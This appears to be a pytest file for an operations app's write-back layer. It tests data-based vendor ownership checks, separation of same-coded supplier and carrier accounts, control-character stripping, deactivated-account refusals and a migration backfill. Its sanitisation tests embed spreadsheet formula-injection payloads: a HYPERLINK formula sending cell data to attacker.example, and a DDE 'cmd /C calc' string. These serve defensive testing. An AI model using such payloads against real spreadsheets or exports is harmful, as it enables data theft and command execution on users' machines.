"""Issue 10 in the write-back layer: ownership from the data, kind and code compared, text stored
without control characters, and every write checking the account (RELIABILITY 5, 6).

Each test runs on SQLite and, with OPS_TEST_DATABASE_URL, on PostgreSQL. The real entity kinds
(``inventory_exception`` from ops.inventory, ``fulfilment_exception`` from ops.fulfillment) are
used wherever the finding was about them.
"""

from __future__ import annotations

import datetime as dt
import json

import pytest
from sqlalchemy import Engine, func, select

import ops.fulfillment  # noqa: F401 - registers the fulfilment_exception kind
import ops.inventory  # noqa: F401 - registers the inventory_exception kind
from ops import decisions as d
from ops.access import AccessDenied, Viewer
from ops.db import transaction
from ops.models import (
    Annotation,
    Carrier,
    Channel,
    Decision,
    EntityState,
    Order,
    OrderLine,
    Product,
    Supplier,
    Threshold,
    User,
    Warehouse,
)

MANAGER = Viewer("meg", "manager")
SUP_1 = Viewer("sup1", "vendor", "supplier", "SUP-001")
SUP_ARC = Viewer("arc_sup", "vendor", "supplier", "ARC")
CAR_ARC = Viewer("arc_car", "vendor", "carrier", "ARC")
INV = "inventory_exception"
FUL = "fulfilment_exception"


@pytest.fixture
def world(engine: Engine) -> Engine:
    """Suppliers SUP-001, SUP-002 and ARC, a carrier also coded ARC, a 3PL warehouse, two orders:
    SO-10000001 (a line sold by SUP-002 only) and SO-10000002 (a line sold by SUP-001)."""
    with transaction(engine) as s:
        ch = Channel(code="web", name="Web")
        east, west = Warehouse(code="WH-EAST", name="East"), Warehouse(code="WH-WEST", name="West",
                                                                        operator_code="3PL-A")
        s1, s2, arc = (Supplier(code="SUP-001", name="Alpha"), Supplier(code="SUP-002", name="Beta"),
                       Supplier(code="ARC", name="Arc Supplies"))
        s.add_all([ch, east, west, s1, s2, arc, Carrier(code="ARC", name="Arc Couriers")])
        s.flush()
        p1 = Product(sku="SKU-0001", name="Boot", category="shoes", supplier_id=s1.id)
        p2 = Product(sku="SKU-0002", name="Hat", category="hats", supplier_id=s2.id)
        pa = Product(sku="SKU-ARC", name="Arc lamp", category="lamps", supplier_id=arc.id)
        s.add_all([p1, p2, pa])
        s.flush()
        placed = dt.datetime(2025, 3, 1, 10)
        for number, prod, seller in (("SO-10000001", p2, s2), ("SO-10000002", p1, s1)):
            o = Order(order_number=number, channel_id=ch.id, warehouse_id=west.id, status="paid", placed_at=placed,
                      paid_at=placed, ship_by=placed + dt.timedelta(days=1))
            s.add(o)
            s.flush()
            s.add(OrderLine(order_id=o.id, line_no=1, product_id=prod.id, seller_id=seller.id, qty=1, unit_price=9.0))
        s.add_all([User(username="arc_sup", role="vendor", vendor_kind="supplier", vendor_code="ARC"),
                   User(username="arc_car", role="vendor", vendor_kind="carrier", vendor_code="ARC")])
    return engine


@pytest.fixture
def verified_owners() -> None:
    """The real kinds carry the owner rules that look the owner up in the data (ops.inventory, ops.fulfillment)."""
    import ops.fulfillment

    assert d.ENTITY_KINDS[INV].owner is ops.inventory._exception_owner
    assert d.ENTITY_KINDS[FUL].owner is ops.fulfillment.exception_owner


def _count(engine: Engine, model: type) -> int:
    with transaction(engine) as s:
        return int(s.scalar(select(func.count()).select_from(model)) or 0)


def _refusals(engine: Engine, actor: str) -> list[tuple[str, str, str]]:
    with transaction(engine) as s:
        rows = s.execute(select(Decision.action, Decision.entity_key, Decision.outcome)
                         .where(Decision.actor == actor).order_by(Decision.id)).all()
    return [tuple(r) for r in rows]


# --- finding 10: ownership by key -------------------------------------------------------------


@pytest.mark.parametrize("via", ["respond", "apply"])
def test_supplier_cannot_answer_a_backlog_order_it_sold_nothing_on(world: Engine, via: str) -> None:
    """The seller in ``backlog:ORDER|SELLER`` is the client's word: SUP-001 sold nothing on SO-10000001."""
    key = "backlog:SO-10000001|SUP-001"
    with pytest.raises(AccessDenied), transaction(world) as s:
        if via == "respond":
            d.respond(s, viewer=SUP_1, entity_kind=FUL, entity_key=key, text="shipping tomorrow")
        else:
            d.apply(s, d.ChangeSet((d.Change(FUL, key, "vendor_note", None, "shipping tomorrow", 0),)), viewer=SUP_1)
    assert _count(world, EntityState) == 0
    assert _refusals(world, "sup1") == [("entity_state.respond", key, "refused")]
    with transaction(world) as s:
        assert d.entity_states(s, viewer=SUP_1).empty


def test_with_a_data_owner_rule_the_real_seller_answers_and_no_one_else(world: Engine, verified_owners: None) -> None:
    with transaction(world) as s:
        rec = d.respond(s, viewer=SUP_1, entity_kind=FUL, entity_key="backlog:SO-10000002|SUP-001", text="on it")
    assert (rec.vendor_kind, rec.vendor_code, rec.vendor_note) == ("supplier", "SUP-001", "on it")
    with pytest.raises(AccessDenied, match="not theirs|cannot be checked"), transaction(world) as s:
        d.respond(s, viewer=SUP_1, entity_kind=FUL, entity_key="backlog:SO-10000001|SUP-001", text="mine")
    tpl = Viewer("tpl", "vendor", "warehouse", "3PL-A")
    with transaction(world) as s:
        rec = d.respond(s, viewer=tpl, entity_kind=FUL, entity_key="warehouse:WH-WEST", text="extra shift")
    assert (rec.vendor_kind, rec.vendor_code) == ("warehouse", "3PL-A")


def test_a_forged_owner_stored_earlier_does_not_vouch_for_later_writes(world: Engine, verified_owners: None) -> None:
    """A row whose stored owner came from a forged key: ownership is read from the data again."""
    key = "backlog:SO-10000001|SUP-001"
    with transaction(world) as s:
        s.add(EntityState(entity_kind=FUL, entity_key=key, state="open", vendor_code="SUP-001",
                          vendor_kind="supplier", version=1))
    with pytest.raises(AccessDenied), transaction(world) as s:
        d.respond(s, viewer=SUP_1, entity_kind=FUL, entity_key=key, text="still mine", expected_version=1)
    # An internal write rewrites the owner from the data (here: nobody; SUP-001 sold nothing).
    with transaction(world) as s:
        rec = d.set_entity_state(s, viewer=MANAGER, entity_kind=FUL, entity_key=key, state="flagged")
        assert (rec.vendor_kind, rec.vendor_code) == (None, None)
        assert d.entity_states(s, viewer=SUP_1).empty


# --- finding 10: ownership by code without its kind --------------------------------------------


def test_carrier_arc_cannot_answer_supplier_arcs_inventory_exception(world: Engine) -> None:
    key = "stockout:SKU-ARC:WH-EAST"
    with pytest.raises(AccessDenied), transaction(world) as s:
        d.respond(s, viewer=CAR_ARC, entity_kind=INV, entity_key=key, text="carrier here")
    assert _count(world, EntityState) == 0
    assert _refusals(world, "arc_car") == [("entity_state.respond", key, "refused")]


def test_carrier_arc_cannot_answer_with_a_verified_rule_either(world: Engine, verified_owners: None) -> None:
    key = "stockout:SKU-ARC:WH-EAST"
    with pytest.raises(AccessDenied, match="not theirs"), transaction(world) as s:
        d.respond(s, viewer=CAR_ARC, entity_kind=INV, entity_key=key, text="carrier here")
    with transaction(world) as s:
        rec = d.respond(s, viewer=SUP_ARC, entity_kind=INV, entity_key=key, text="restock Friday")
    assert (rec.vendor_kind, rec.vendor_code) == ("supplier", "ARC")


def test_supplier_arcs_rows_and_colleagues_are_not_carrier_arcs(world: Engine, verified_owners: None) -> None:
    """Reads compare kind and code too: entity states, the audit log and who-did-it names."""
    key = "stockout:SKU-ARC:WH-EAST"
    with transaction(world) as s:
        rec = d.set_entity_state(s, viewer=MANAGER, entity_kind=INV, entity_key=key, state="acknowledged",
                                 note="PO raised")
        assert (rec.vendor_kind, rec.vendor_code) == ("supplier", "ARC")
        s.add(Decision(actor="arc_car", action="entity_state.respond", entity_kind=INV, entity_key="x",
                       outcome="applied", vendor_code="ARC", vendor_kind="carrier"))
    with transaction(world) as s:
        assert d.entity_states(s, viewer=CAR_ARC).empty
        assert d.entity_states(s, viewer=SUP_ARC)["entity_key"].tolist() == [key]
        car_log, sup_log = d.audit_log(s, viewer=CAR_ARC), d.audit_log(s, viewer=SUP_ARC)
        assert car_log["entity_key"].tolist() == ["x"]
        assert sup_log[["entity_key", "vendor_kind"]].values.tolist() == [[key, "supplier"]]
        # The carrier's user is not the supplier's colleague: its name reads as the account manager.
        s.add(Decision(actor="arc_car", action="entity_state.respond", entity_kind=INV, entity_key="y",
                       outcome="applied", vendor_code="ARC", vendor_kind="supplier"))
        s.flush()
        assert d.audit_log(s, viewer=SUP_ARC, entity_key="y")["actor"].tolist() == [d.ACCOUNT_MANAGER]


def _bare_code_owner(session, key: str) -> str | None:  # type: ignore[no-untyped-def]
    """An owner rule of the old shape: a bare code, its kind unsaid."""
    return session.scalar(select(Supplier.code).join(Product, Product.supplier_id == Supplier.id)
                          .where(Product.sku == key))


def test_rows_without_a_kind_are_read_only_where_the_code_is_unambiguous(
    world: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Older rows (and other modules' audit rows) carry only a code: ARC's are read by neither ARC."""
    monkeypatch.setattr(d, "ENTITY_KINDS", dict(d.ENTITY_KINDS))
    d.define_entity_kind("test_bare", label="Bare", owner=_bare_code_owner, page="inventory")
    with pytest.raises(AccessDenied, match="cannot be checked"), transaction(world) as s:
        d.respond(s, viewer=SUP_1, entity_kind="test_bare", entity_key="SKU-0001", text="a bare code vouches")
    with transaction(world) as s:
        # For internal writes the kind of a bare code is inferred; an ambiguous code's stays unknown.
        rec = d.set_entity_state(s, viewer=MANAGER, entity_kind="test_bare", entity_key="SKU-ARC", state="flagged")
        assert (rec.vendor_kind, rec.vendor_code) == (None, "ARC")
        rec = d.set_entity_state(s, viewer=MANAGER, entity_kind="test_bare", entity_key="SKU-0001", state="flagged")
        assert (rec.vendor_kind, rec.vendor_code) == ("supplier", "SUP-001")
        s.add_all([EntityState(entity_kind=INV, entity_key="old-arc", state="open", vendor_code="ARC", version=1),
                   EntityState(entity_kind=INV, entity_key="old-sup1", state="open", vendor_code="SUP-001",
                               version=1)])
    with transaction(world) as s:
        assert d.entity_states(s, viewer=SUP_ARC).empty and d.entity_states(s, viewer=CAR_ARC).empty
        assert d.audit_log(s, viewer=SUP_ARC).empty and d.audit_log(s, viewer=CAR_ARC).empty
        assert d.entity_states(s, viewer=SUP_1)["entity_key"].tolist() == ["old-sup1", "SKU-0001"]


# --- finding 1: text from people is stored without control characters -------------------------

NOTE = '\x01=HYPERLINK("http://attacker.example/?"&A1,"click")'


def test_a_suppliers_response_is_stored_without_control_characters(world: Engine, verified_owners: None) -> None:
    with transaction(world) as s:
        d.respond(s, viewer=SUP_1, entity_kind=INV, entity_key="stockout:SKU-0001:WH-EAST", text=NOTE,
                  why="\x1bwhy\x07")
    with transaction(world) as s:
        stored = s.execute(select(EntityState.vendor_note)).scalar_one()
        audit = s.execute(select(Decision.after, Decision.why).where(Decision.outcome == "applied")).one()
    assert stored == NOTE[1:] and "\x01" not in stored
    assert json.loads(audit.after)["vendor_note"] == NOTE[1:] and audit.why == "why"


def test_notes_reasons_and_annotations_keep_newlines_and_tabs_only(world: Engine) -> None:
    with transaction(world) as s:
        d.set_entity_state(s, viewer=MANAGER, entity_kind=INV, entity_key="stockout:SKU-0001:WH-EAST",
                           state="flagged", note="line 1\r\nline\t2\rline 3\x00\x0b\x0c\x7f\x85", why="\x01because")
        d.add_annotation(s, viewer=MANAGER, page="inventory", day="2025-03-01", text="\x02=cmd|' /C calc'!A0\n ok")
        d.apply(s, d.ChangeSet((d.Change("threshold", "cover_warning_days@global", "value", 14, 10, 0),),
                               why="typo\x1f fixed"), viewer=MANAGER)
    with transaction(world) as s:
        note = s.scalar(select(EntityState.note))
        text = s.scalar(select(Annotation.text))
        whys = list(s.scalars(select(Decision.why).order_by(Decision.id)))
    assert note == "line 1\nline\t2\nline 3"
    assert text == "=cmd|' /C calc'!A0\n ok"
    assert whys == ["because", None, "typo fixed"]


def test_clean_text_rule() -> None:
    assert d.clean_text("a\x00b\x1fc\td\ne\r\nf\rg\x7fh\x9fi\u00a0j") == "abc\td\ne\nf\ngh" + "i\u00a0j"


# --- every write checks the account -----------------------------------------------------------


def _deactivate(engine: Engine, username: str, role: str, **kw: str) -> None:
    with transaction(engine) as s:
        found = s.scalar(select(User).where(User.username == username))
        if found is None:
            s.add(User(username=username, role=role, active=False, **kw))
        else:
            found.active = False


WRITES = {
    "apply": lambda s, v: d.apply(s, d.ChangeSet((d.Change("threshold", "cover_warning_days@global", "value", 14, 10,
                                                           0),)), viewer=v),
    "set_threshold": lambda s, v: d.set_threshold(s, viewer=v, name="cover_warning_days", value=10),
    "set_entity_state": lambda s, v: d.set_entity_state(s, viewer=v, entity_kind=INV,
                                                        entity_key="stockout:SKU-0001:WH-EAST", state="flagged"),
    "add_annotation": lambda s, v: d.add_annotation(s, viewer=v, page="inventory", day="2025-03-01", text="hi"),
}


@pytest.mark.parametrize("write", sorted(WRITES))
def test_a_deactivated_manager_cannot_write_from_an_open_session(world: Engine, write: str) -> None:
    _deactivate(world, "meg", "manager")
    with pytest.raises(AccessDenied, match="deactivated"), transaction(world) as s:
        WRITES[write](s, MANAGER)
    assert (_count(world, Threshold), _count(world, EntityState), _count(world, Annotation)) == (0, 0, 0)
    with transaction(world) as s:
        rows = s.execute(select(Decision.outcome, Decision.after).where(Decision.actor == "meg")).all()
    assert [r.outcome for r in rows] == ["refused"]
    assert "deactivated" in json.loads(rows[0].after)["refused"]


def test_a_deactivated_supplier_cannot_respond(world: Engine, verified_owners: None) -> None:
    _deactivate(world, "sup1", "vendor", vendor_kind="supplier", vendor_code="SUP-001")
    with pytest.raises(AccessDenied, match="deactivated"), transaction(world) as s:
        d.respond(s, viewer=SUP_1, entity_kind=INV, entity_key="stockout:SKU-0001:WH-EAST", text="hi")
    assert _count(world, EntityState) == 0
    assert [r[2] for r in _refusals(world, "sup1")] == ["refused"]


def test_active_accounts_and_viewers_without_an_account_still_write(world: Engine) -> None:
    with transaction(world) as s:
        s.add(User(username="meg", role="manager", active=True))
    with transaction(world) as s:
        WRITES["set_threshold"](s, MANAGER)
        d.add_annotation(s, viewer=Viewer("system", "admin"), page="inventory", day="2025-03-01", text="cli")
    assert (_count(world, Threshold), _count(world, Annotation)) == (1, 1)


# --- the migration gives existing rows their kind where the code says it -----------------------


def test_migration_0004_backfills_kinds_only_for_unambiguous_codes(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from alembic import command
    from sqlalchemy import text

    from ops.db import make_engine
    from ops.migrate import alembic_config

    eng = make_engine(f"sqlite:///{tmp_path / 'old.db'}")
    cfg = alembic_config(eng)
    with eng.begin() as conn:
        cfg.attributes["connection"] = conn
        command.upgrade(cfg, "0003")
        conn.execute(text("INSERT INTO suppliers (code, name) VALUES ('SUP-001', 'A'), ('ARC', 'Arc')"))
        conn.execute(text("INSERT INTO carriers (code, name) VALUES ('ARC', 'Arc'), ('FASTX', 'Fast')"))
        conn.execute(text("INSERT INTO warehouses (code, name, operator_code, cutoff_time, business_days, "
                          "handling_days, version) VALUES ('WH-W', 'W', '3PL-A', '14:00:00', '12345', 1, 1)"))
        for key, code in (("a", "SUP-001"), ("b", "ARC"), ("c", "FASTX"), ("d", "3PL-A"), ("e", None)):
            conn.execute(text("INSERT INTO entity_states (entity_kind, entity_key, state, vendor_code, version, "
                              "updated_at) VALUES ('k', :key, 'open', :code, 1, CURRENT_TIMESTAMP)"),
                         {"key": key, "code": code})
            conn.execute(text("INSERT INTO decisions (at, actor, action, entity_kind, entity_key, outcome, "
                              "vendor_code) VALUES (CURRENT_TIMESTAMP, 'x', 'y', 'k', :key, 'applied', :code)"),
                         {"key": key, "code": code})
    with eng.begin() as conn:
        cfg.attributes["connection"] = conn
        command.upgrade(cfg, "head")
        for table in ("entity_states", "decisions"):
            got = dict(conn.execute(text(f"SELECT entity_key, vendor_kind FROM {table}")).all())  # noqa: S608
            assert got == {"a": "supplier", "b": None, "c": "carrier", "d": "warehouse", "e": None}, table
    eng.dispose()
